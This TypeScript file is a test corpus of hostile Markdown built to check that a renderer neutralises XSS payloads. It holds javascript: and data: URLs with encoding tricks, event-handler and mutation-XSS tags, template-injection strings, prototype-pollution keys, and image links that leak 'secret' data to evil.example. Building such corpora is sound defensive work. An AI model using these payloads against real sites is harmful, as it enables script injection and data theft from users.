/** Addresses that must lead nowhere, or only where they say. */
const ADDRESSES = [
  ...['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)'],
  ...['\u0001javascript:alert(1)', 'javascript\u200b:alert(1)', '\ufeffjavascript:alert(1)', 'javascript:%0aalert(1)'],
  ...[
    '&#106;avascript:alert(1)',
    '&#x6A;avascript&#58;alert(1)',
    'javascript&colon;alert(1)',
    '&Tab;javascript:alert(1)',
  ],
  ...[
    'java\\script:alert(1)',
    'javascript:/*--></title>*/alert(1)',
    'javascript://%0aalert(1)',
    'javascript&#x3A;alert(1)',
  ],
  ...[
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:image/svg+xml;base64,PHN2Zz4=',
    'livescript:x',
  ],
  ...['blob:https://example.org/1', 'file:///etc/passwd', 'ws://evil.example', 'intent://x#Intent;end', 'about:blank'],
  ...['//evil.example/x', '\\\\evil.example\\x', '/\\evil.example', '/relative', '../up', '?q=1', '', ':', '#top'],
  ...['https://ok.example/?"onclick=alert(1)', 'https://ok.example/<img src=x>', 'https://bank.example@evil.example/'],
  ...[
    'https://evil\u3002example',
    'https://xn--80ak6aa92e.com',
    'view-source:https://e.org',
    'feed:javascript:alert(1)',
  ],
]

/** Markup that must stay text. */
const MARKUP = [
  ...[
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
  ],
  ...[
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<base href=//evil.example>',
  ],
  ...[
    '<form action="https://evil.example"><input name=a></form>',
    '<style>*{background:url(https://evil.example)}</style>',
  ],
  ...['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<div id=body name=cookie>clobber</div>'],
  ...[
    '<body onload=alert(1)>',
    '<video><source onerror=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<object data=x>',
  ],
  ...[
    '<template><script>1</script></template>',
    '<link rel=stylesheet href=//evil.example>',
    '<meta http-equiv=refresh content=0>',
  ],
  ...[
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[<b>]]>',
  ],
  ...[
    '<?xml <img src=x onerror=alert(1)>?>',
    '</p><script>1</script>',
    '<b onmouseover=alert(1)>b</b>',
    '<x-y onclick=alert(1)>',
  ],
  ...[
    '&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;',
    '&lt;img src=x onerror=alert(1)&gt;',
    '"><script>alert(1)</script>',
  ],
  ...[
    "'-alert(1)-'",
    '" onmouseover="alert(1)',
    '\u2028<img src=x>',
    '<\0script>alert(1)</script>',
    '<ScRiPt\n>1</sCrIpT>',
  ],
  ...[
    '{{constructor.constructor("alert(1)")()}}',
    '${alert(1)}',
    '<style>@import "//evil.example"</style>',
    '<slot name=x>',
  ],
]

/** What a fence may say behind its marks. */
const INFO_STRINGS = [
  ...['"><img src=x onerror=alert(1)>', 'html onclick=alert(1)', 'js" onmouseover="alert(1)', '<script>', '__proto__'],
  ...[
    'constructor',
    'javascript:alert(1)',
    'c-keyword" style="x',
    '&quot;&gt;&lt;img&gt;',
    '../../evil',
    'mermaid',
    'a\u202eb',
  ],
]

const each = (parts: readonly string[], ...templates: ((part: string) => string)[]): string[] =>
  templates.flatMap((template) => parts.map(template))

/** Hostile Markdown, by kind. */
export const CORPUS: Readonly<Record<string, readonly string[]>> = {
  'addresses of links': each(
    ADDRESSES,
    (address) => `[a](${address}) b`,
    (address) => `[a](<${address}> "t") b`,
  ),
  'addresses between angle brackets': each(ADDRESSES, (address) => `<${address}> b`),
  'addresses of pictures': each(ADDRESSES, (address) => `![a](${address}) b`),
  'addresses of definitions': each(ADDRESSES, (address) => `[a][r] ![b][r] [r]\n\n[r]: ${address}\n`),
  'bare addresses': each(ADDRESSES, (address) => `see ${address} b`),
  'tags in paragraphs': each(MARKUP, (markup) => `a ${markup} b`),
  'tags in blocks': each(MARKUP, (markup) => `${markup}\n\nb`),
  'tags in emphasis': each(
    MARKUP,
    (markup) => `**a ${markup}** *${markup}*`,
    (markup) => `~~${markup}~~`,
  ),
  'tags in headings': each(MARKUP, (markup) => `## ${markup}\n\n${markup}\n===`),
  'tags in lists and quotes': each(MARKUP, (markup) => `> - [x] ${markup}\n>   1. ${markup}`),
  'tags in tables': each(MARKUP, (markup) => `| ${markup} | b |\n| - | :-: |\n| c | ${markup} |`),
  'tags in notes': each(MARKUP, (markup) => `a[^1]\n\n[^1]: ${markup}`),
  'tags in words of links': each(
    MARKUP,
    (markup) => `[${markup}](https://ok.example "${markup}") ![${markup}](https://e.org)`,
  ),
  'tags in labels': each(MARKUP, (markup) => `[${markup}]\n\n[${markup}]: https://ok.example '${markup}'`),
  'tags in code': each(MARKUP, (markup) => `\`${markup}\` \`\`${markup}\n\n    ${markup}\n`),
  'tags in fences': each(MARKUP, (markup) => `\`\`\`html\n${markup}\n\`\`\`\n`),
  'words behind fences': each(
    INFO_STRINGS,
    (info) => `\`\`\`${info}\ncode\n\`\`\``,
    (info) => `~~~ ${info}\ncode\n`,
  ),
  combinations: [
    '[a](java\nscript:alert(1))',
    '![x" onerror="alert(1)](x)',
    '![x](https://evil.example/pixel.png?secret)',
    '![a\n\nb](https://evil.example/?q=\n\nsecret)',
    '[![x](https://evil.example/p.png)](javascript:alert(1))',
    '[a](https://ok.example "x\\" onmouseover=alert(1)")',
    '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
    '[^1]\n\n[^1]: <img src=x onerror=alert(1)> [a](javascript:alert(1))',
    '> - > 1. [a](javascript:alert(1)) <iframe src=//evil.example>',
    '**<img src=x** onerror=alert(1)> *<svg/onload=alert(1)*',
    '[a](javascript:alert(1)//https://ok.example)',
    '[__proto__]\n\n[__proto__]: javascript:alert(1)',
    '[constructor] [toString][] [^__proto__]',
  ],
}
